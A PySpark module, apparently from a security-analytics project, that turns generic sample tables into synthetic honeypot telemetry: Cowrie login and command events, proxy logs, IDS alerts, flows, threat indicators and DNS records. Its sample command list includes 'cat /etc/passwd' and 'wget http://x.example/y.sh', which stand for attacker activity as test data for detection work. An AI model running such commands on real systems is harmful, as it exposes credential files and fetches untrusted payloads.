"""The sample tables read as telemetry.

``events`` rows stand for honeypot events; other views derive from it and from the other
tables. A view keeps all rows of its table unless it stands for some kinds of events only
(failed logins, alerts, sightings). Views are plain lazy DataFrames.
"""

from __future__ import annotations

from functools import cached_property

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from duskwatch.functions.net import LOOPBACK
from duskwatch.functions.timefns import us_to_iso
from duskwatch.operators.enrich import classify_passwords, geo_enrich

INPUTS = (
    "whoami", "uname -a", "  cat /etc/passwd", "wget http://x.example/y.sh", "", "   ", "/bin/./uname -s -v", "echo ok",
)
RELAY_PORTS = (3478, 5060, 1080, 80, 443)
FLOW_PORTS = (22, 23, 53, 80, 443, 445, 1337, 2222, 4444, 6666, 6667, 8888, 9001, 31337)
SHARES = ("C$", "ADMIN$", "IPC$", "Public")
SIGNATURES = ("ET MALWARE Beacon", "ET SCAN Sweep", "ET POLICY Note", "ET INFO Ping")
COUNTRIES = (
    "US", "DE", "CN", "RU", "BR", "IN", "VN", "NL", "FR", "GB", "KR", "JP", "ID", "TR", "UA",
    "PL", "IT", "ES", "CA", "MX", "SG", "HK", "TW", "XK", "QZ",
)


def pick(values, index: Column) -> Column:
    return F.element_at(F.array(*[F.lit(v) for v in values]), index.cast("int") + 1)


def _ip(n: Column) -> Column:
    return F.concat(
        F.lit("45."), F.pmod(n, F.lit(27)).cast("string"), F.lit("."), F.pmod(n, F.lit(250)).cast("string"), F.lit(".7")
    )


def _s(c: Column) -> Column:
    return c.cast("string")


class Telemetry:
    """Views over one folder of sample tables, optionally restricted to a time range.

    ``start`` and ``end`` are compared with the stored time column, so they are pushed into
    the scan.
    """

    def __init__(self, spark: SparkSession, folder: str, start: str | None = None, end: str | None = None):
        self.spark, self.folder, self.start, self.end = spark, folder, start, end

    def between(self, start: str | None, end: str | None) -> Telemetry:
        return Telemetry(self.spark, self.folder, start, end)

    def table(self, name: str) -> DataFrame:
        return self.spark.read.parquet(f"{self.folder}/{name}.parquet")

    @cached_property
    def _base(self) -> DataFrame:
        ev = self.table("events")
        if self.start is not None:
            ev = ev.filter(F.col("ts") >= F.lit(self.start).cast("timestamp_ntz"))
        if self.end is not None:
            ev = ev.filter(F.col("ts") < F.lit(self.end).cast("timestamp_ntz"))
        return ev.select(
            "event_id",
            "user_id",
            "event_type",
            "value",
            F.unix_micros(F.col("ts").cast("timestamp")).alias("ts_us"),
            F.get_json_object("props", "$.k").try_cast("bigint").alias("k"),
        ).withColumn("ts", us_to_iso(F.col("ts_us")))

    @cached_property
    def events(self) -> DataFrame:
        """Honeypot events with real client addresses and passwords as typed."""
        k, user, et = F.col("k"), F.col("user_id"), F.col("event_type")
        click = (
            F.when(k % 10 == 0, "cowrie.direct-tcpip.request")
            .when(k % 10 == 1, "cowrie.direct-tcpip.data")
            .when(k % 10 == 2, "cowrie.session.file_download")
            .otherwise("cowrie.command.input")
        )
        eventid = (
            F.when(et == "error", "cowrie.login.failed")
            .when(et == "signup", "cowrie.login.success")
            .when(et == "purchase", "cowrie.session.closed")
            .when(et == "view", "cowrie.session.connect")
            .otherwise(click)
        )
        half = F.floor((F.substring("ts", 9, 2).cast("int") - 1) / 15)
        login = et.isin("error", "signup")
        eid = F.col("eventid")
        relay = eid.startswith("cowrie.direct-tcpip.")
        download = eid == "cowrie.session.file_download"
        tens = F.floor(k / 10)
        return (
            self._base.withColumn("eventid", eventid)
            .withColumn("src_ip", _ip(user))
            .withColumn("url", F.when(download, F.concat(F.lit("http://"), "src_ip", F.lit("/p"), _s(tens), F.lit(".sh"))))
            .select(
                "event_id",
                "user_id",
                "k",
                "event_type",
                "ts_us",
                "ts",
                "eventid",
                F.when(user % 10 == 9, F.concat(F.lit("e"), _s(F.col("event_id"))))
                .otherwise(F.concat(F.lit("u"), _s(user), F.lit("-"), _s(half)))
                .alias("session"),
                "src_ip",
                F.concat(F.lit("sensor-"), _s(user % 4)).alias("sensor"),
                F.when(user % 2 == 0, "ssh").otherwise("telnet").alias("protocol"),
                F.when(et == "view", 1024 + F.col("event_id") % 60000).alias("src_port"),
                F.when(relay, pick(RELAY_PORTS, tens % 5)).when(et == "view", 2222).cast("bigint").alias("dst_port"),
                F.when(login, F.when(user % 3 == 0, "root").otherwise(F.concat(F.lit("user"), _s(k % 40)))).alias(
                    "username"
                ),
                F.when(login, F.concat(F.lit("Brand#"), _s(1 + k % 6), _s(1 + user % 6))).alias("password"),
                F.when(eid == "cowrie.command.input", pick(INPUTS, k % 8)).alias("input"),
                "url",
                F.md5("url").alias("shasum"),
                F.when(et == "purchase", F.col("value")).alias("duration"),
            )
        )

    @cached_property
    def wire(self) -> DataFrame:
        """Events as untyped wire fields, with a defect wherever k says so."""
        e = self.events
        k, c = F.col("k"), F.col
        lost = k == 98
        return e.select(
            "event_id",
            "k",
            F.when(k == 90, F.lit("ssh.login")).otherwise(c("eventid")).alias("eventid"),
            F.when(k == 91, F.concat(F.left("ts", F.lit(26)), F.lit("+00:00"))).otherwise(c("ts")).alias("timestamp"),
            F.when(k == 92, F.lit("300.1.2.3")).otherwise(c("src_ip")).alias("src_ip"),
            F.when(k == 93, F.lit("")).when(k == 99, F.lit("s" * 65)).otherwise(c("session")).alias("session"),
            F.when(k == 94, F.lit("")).otherwise(c("sensor")).alias("sensor"),
            F.when(k == 95, F.lit("ftp")).otherwise(c("protocol")).alias("protocol"),
            F.when(k == 96, F.lit("70000")).when(~lost, _s(c("src_port"))).alias("src_port"),
            F.when(~lost, _s(c("dst_port"))).alias("dst_port"),
            F.when(~lost, c("username")).alias("username"),
            c("password"),
            F.when(~lost, c("input")).alias("input"),
            F.when(~lost, c("url")).alias("url"),
            c("shasum"),
            F.when(k == 97, F.lit("-1")).when(~lost, _s(c("duration"))).alias("duration"),
            F.lit("shipper").alias("fluent_host"),
            F.lit("tail").alias("fluent_source"),
        )

    @cached_property
    def tunnelled(self) -> DataFrame:
        """Events as the sensor sees them: even users' events other than connects come from loopback."""
        behind = (F.col("user_id") % 2 == 0) & (F.col("event_type") != "view")
        return self.events.withColumn("src_ip", F.when(behind, LOOPBACK).otherwise(F.col("src_ip")))

    @cached_property
    def proxies(self) -> DataFrame:
        """Proxy connections; odd users' rows are the ones that arrive late."""
        return self.events.filter(F.col("event_type") == "view").select(
            "event_id",
            "ts_us",
            us_to_iso(F.col("ts_us"), "+00:00").alias("ts"),
            F.col("src_ip").alias("client_ip"),
            F.col("src_port").alias("client_port"),
            F.lit(22).cast("bigint").alias("frontend_port"),
            F.col("k").alias("duration"),
            (F.col("k") * 10).alias("bytes_uploaded"),
            (F.col("k") * 20).alias("bytes_downloaded"),
            F.lit("cD").alias("status"),
            (F.col("user_id") % 2 == 1).alias("late"),
        )

    @cached_property
    def geo_ranges(self) -> DataFrame:
        n = F.col("n_nationkey").cast("bigint")
        lo = F.lit(45 * 2**24) + n * 65536
        return self.table("nation").select(
            lo.alias("lo"),
            (lo + 65535).alias("hi"),
            pick(COUNTRIES, n % len(COUNTRIES)).alias("country"),
            n.alias("asn"),
            F.col("n_name").alias("asn_org"),
        )

    @cached_property
    def dictionary(self) -> DataFrame:
        return self.table("part").select(F.col("p_brand").alias("word")).distinct()

    @cached_property
    def stored(self) -> DataFrame:
        """Events after geo lookup and password redaction."""
        return classify_passwords(geo_enrich(self.events, self.geo_ranges), self.dictionary)

    @cached_property
    def ids(self) -> DataFrame:
        k = F.col("k")
        return self.events.filter(F.col("event_type") == "view").select(
            "event_id",
            F.concat(F.lit("ids:"), _s(F.col("event_id"))).alias("source_event"),
            "ts_us",
            "ts",
            F.when(k % 10 == 9, "dns").otherwise("alert").alias("event_type"),
            "src_ip",
            self._home().alias("dest_ip"),
            (1 + k % 3).alias("severity"),
            pick(SIGNATURES, k % 4).alias("signature"),
        )

    @staticmethod
    def _home() -> Column:
        return F.concat(F.lit("10.0."), _s(F.col("user_id") % 20), F.lit("."), _s(1 + F.col("k")))

    @cached_property
    def flows(self) -> DataFrame:
        k, out = F.col("k"), F.col("event_id") % 2 == 0
        home, other = self._home(), F.col("src_ip")
        base = self._base.filter(F.col("event_type").isin("view", "purchase")).withColumn("src_ip", _ip(F.col("user_id")))
        dest = F.when(out, other).otherwise(home)
        port = pick(FLOW_PORTS, k % len(FLOW_PORTS)).cast("bigint")
        return base.select(
            F.col("event_id").alias("flow_id"),
            F.concat(F.lit("flow:"), _s(F.col("event_id"))).alias("source_event"),
            "ts_us",
            "ts",
            F.substring("ts", 12, 2).cast("bigint").alias("ts_hour"),
            F.when(out, "outbound").otherwise("inbound").alias("direction"),
            F.when(out, home).otherwise(other).alias("src_ip"),
            dest.alias("dest_ip"),
            port.alias("dest_port"),
            F.round(F.col("value") * 500000).cast("bigint").alias("bytes_sent"),
            F.concat(F.lit("\\\\srv"), _s(F.col("user_id") % 8), F.lit("\\"), pick(SHARES, k % 4)).alias("smb_share"),
            F.concat(F.lit("svc"), _s(k % 7)).alias("smb_username"),
            F.when(port == 443, F.md5(dest)).alias("cert_hash"),
        )

    @cached_property
    def indicators(self) -> DataFrame:
        """Every supplier stands for a listed address."""
        key = F.col("s_suppkey")
        return self.table("supplier").select(
            F.lit("ip").alias("kind"),
            _ip(key).alias("value"),
            F.concat(F.lit("m"), _s(key)).alias("indicator_event_id"),
            (1 + F.col("s_nationkey").cast("bigint") % 4).alias("threat_level"),
            F.col("s_name").alias("info"),
            F.concat(F.lit("feed"), _s(key % 3)).alias("feed"),
        )

    @cached_property
    def dns(self) -> DataFrame:
        page = F.col("page_id")
        host = F.regexp_extract("url", "^[a-z]+://([^/?#:]+)", 1)
        return self.table("pages").select(
            F.concat(F.lit("dns:"), _s(page)).alias("source_event"),
            F.concat(F.lit("10.0.0."), _s(page % 250)).alias("src_ip"),
            (F.lit(1704067200000000) + page * 1000000).alias("ts_us"),
            F.when(page % 5 == 0, F.concat(F.substring(F.md5("url"), 1, 24), F.lit(".com")))
            .otherwise(host)
            .alias("dns_name"),
        )

    @cached_property
    def labels(self) -> DataFrame:
        """Analyst verdicts on honeypot alerts."""
        return self.table("labels").select(
            F.concat(F.lit("hp:"), _s(F.col("doc_id"))).alias("source_event"), (F.col("quality") == 1).alias("true_positive")
        )

    @cached_property
    def honeypot(self) -> DataFrame:
        """Events keyed as alert sources."""
        return self.events.withColumn("source_event", F.concat(F.lit("hp:"), _s(F.col("event_id"))))

    @cached_property
    def failed(self) -> DataFrame:
        return self.honeypot.filter(F.col("eventid") == "cowrie.login.failed").select(
            "source_event", "src_ip", "ts_us", "username"
        )
